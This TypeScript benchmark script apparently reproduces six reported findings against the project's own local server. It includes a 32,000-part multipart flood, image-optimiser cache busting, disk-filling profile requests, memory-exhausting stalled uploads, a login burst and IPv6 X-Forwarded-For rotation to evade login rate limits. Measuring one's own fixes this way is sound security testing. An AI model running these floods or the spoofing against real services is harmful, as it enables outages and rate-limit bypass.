// `npx tsx bench/attacks.ts [attack…]` against a running production build (ATTACK_BASE, default
// http://127.0.0.1:$PORT): runs each attack of issue 24 (findings 1–6) for a few seconds while a second,
// honest visitor loads /about once every 20 ms, and prints the visitor's p50/p95 and what the attack got.
// For finding 6 the server must run with TRUST_PROXY=loopback (the addresses are sent in X-Forwarded-For).
// Numbers are this machine's at this moment (shared by other work): compare runs made close together.
import http from 'node:http';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { DIST_DIR } from '../lib/platform/build/dist-dir';
import { percentile } from './load';

const BASE = new URL(process.env.ATTACK_BASE ?? `http://127.0.0.1:${process.env.PORT ?? 3000}`);
const SECONDS = Number(process.env.ATTACK_SECONDS ?? 8);

type Answer = { status: number; ms: number };
function send(o: { method?: string; path: string; headers?: Record<string, string | number>; body?: Buffer | string }): Promise<Answer> {
  const t = performance.now();
  return new Promise((resolve) => {
    const req = http.request({ host: BASE.hostname, port: BASE.port, path: o.path, method: o.method ?? 'GET', headers: o.headers, agent: false }, (res) => {
      res.resume();
      res.on('end', () => resolve({ status: res.statusCode ?? 0, ms: performance.now() - t }));
      res.on('error', () => resolve({ status: 0, ms: performance.now() - t }));
    });
    req.on('error', () => resolve({ status: 0, ms: performance.now() - t }));
    req.end(o.body);
  });
}

/** An honest visitor: GET /about every 20 ms until `stop` resolves. */
async function visitor(stop: Promise<unknown>) {
  let done = false;
  void stop.finally(() => { done = true; });
  const ms: number[] = [];
  while (!done) {
    ms.push((await send({ path: '/about' })).ms);
    await new Promise((r) => setTimeout(r, 20));
  }
  ms.sort((a, b) => a - b);
  return { p50: Math.round(percentile(ms, 50)), p95: Math.round(percentile(ms, 95)), max: Math.round(ms.at(-1) ?? 0), n: ms.length };
}

/** `parallel` loops of `one()` for SECONDS; counts answers by status. */
async function flood(parallel: number, one: (i: number) => Promise<Answer>) {
  const until = performance.now() + SECONDS * 1000;
  const statuses: Record<number, number> = {};
  let i = 0;
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (performance.now() < until) { const a = await one(i++); statuses[a.status] = (statuses[a.status] ?? 0) + 1; }
  }));
  return statuses;
}

function manyParts(parts: number) {
  const b = 'B';
  const part = `--${b}\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nx\r\n`; // 66 bytes
  return { body: Buffer.from(part.repeat(parts) + `--${b}--\r\n`), type: `multipart/form-data; boundary=${b}` };
}

const randomMobile = () => `9${String(Math.floor(Math.random() * 1e9)).padStart(9, '0')}`;
const loginBody = () => JSON.stringify({ type: 'intern', mobile_no: randomMobile(), password: 'Not@Password1' });

const serverPid = () => Number(execFileSync('bash', ['-c', `ss -ltnpH 'sport = :${BASE.port}' | grep -o 'pid=[0-9]*' | head -1 | cut -d= -f2`]).toString().trim());
const rssMb = (pid: number) => Math.round(Number(/VmRSS:\s+(\d+)/.exec(execFileSync('cat', [`/proc/${pid}/status`]).toString())?.[1] ?? 0) / 1024);

const ATTACKS: Record<string, () => Promise<Record<string, unknown>>> = {
  async '0-idle'() { return {}; },
  async '1-multipart'() {
    const { body, type } = manyParts(32_000);
    return flood(4, () => send({ method: 'POST', path: '/api/v1/upload-institution-id', headers: { 'content-type': type, 'content-length': body.length }, body }));
  },
  async '2-image'() {
    return flood(8, () => send({ path: `/_next/image?url=${encodeURIComponent(`/images/gallery/gallery-01.webp#${Math.random()}`)}&w=3840&q=75`, headers: { accept: 'image/avif,image/webp,*/*' } }));
  },
  async '3-profile'() {
    const du = () => Number(execFileSync('du', ['-sk', path.join(DIST_DIR, 'server')]).toString().split('\t')[0]);
    const before = du();
    const statuses = await flood(8, () => send({ path: `/profile/x${Math.random().toString(36).slice(2)}` }));
    return { ...statuses, diskKb: du() - before };
  },
  async '4-stalled-uploads'() {
    const pid = serverPid();
    const before = rssMb(pid);
    const sockets: http.ClientRequest[] = [];
    const chunk = Buffer.alloc(4_300_000, 'a');
    let cut = 0;
    for (let i = 0; i < 100; i++) {
      const req = http.request({ host: BASE.hostname, port: BASE.port, path: '/api/v1/create-intern', method: 'POST', agent: false, headers: { 'content-type': 'multipart/form-data; boundary=x', 'content-length': 4_400_000 } });
      req.on('error', () => { cut++; });
      req.on('response', (res) => { cut++; res.resume(); });
      req.write(chunk);
      sockets.push(req);
    }
    await new Promise((r) => setTimeout(r, SECONDS * 1000));
    const during = rssMb(pid);
    sockets.forEach((s) => s.destroy());
    return { rssBeforeMb: before, rssDuringMb: during, answeredOrCut: cut };
  },
  async '5-login-burst'() {
    const answers = await Promise.all(Array.from({ length: 400 }, () => send({ method: 'POST', path: '/api/v1/login', headers: { 'content-type': 'application/json' }, body: loginBody() })));
    const statuses: Record<number, number> = {};
    for (const a of answers) statuses[a.status] = (statuses[a.status] ?? 0) + 1;
    return statuses;
  },
  async '6-ipv6-rotation'() {
    // One /64, a new interface id for every request (and a zero-padded spelling): 20 at a time.
    return flood(20, (i) => send({ method: 'POST', path: '/api/v1/login', headers: { 'content-type': 'application/json', 'x-forwarded-for': i % 2 ? `2001:db8:1:2::${(i + 1).toString(16)}` : `2001:0db8:0001:0002:0000:0000:0000:${(i + 1).toString(16).padStart(4, '0')}` }, body: loginBody() }));
  },
};

for (const name of process.argv.slice(2).length ? process.argv.slice(2) : Object.keys(ATTACKS)) {
  let finish!: () => void;
  const stop = new Promise<void>((r) => { finish = r; });
  const seen = visitor(stop);
  const started = performance.now();
  const result = await ATTACKS[name]!();
  finish();
  console.log(JSON.stringify({ attack: name, seconds: Math.round((performance.now() - started) / 100) / 10, visitor: await seen, result }));
  await new Promise((r) => setTimeout(r, 2000));
}
